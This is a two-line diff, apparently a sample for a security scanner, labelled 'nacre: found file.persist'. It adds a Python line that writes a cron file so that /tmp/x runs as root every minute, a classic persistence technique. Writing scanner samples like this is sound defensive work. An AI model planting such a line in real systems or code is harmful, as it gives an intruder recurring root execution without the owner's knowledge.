@@ -1,0 +1,2 @@
+# nacre: found file.persist
+open("/etc/cron.d/x", "w").write("* * * * * root sh /tmp/x")
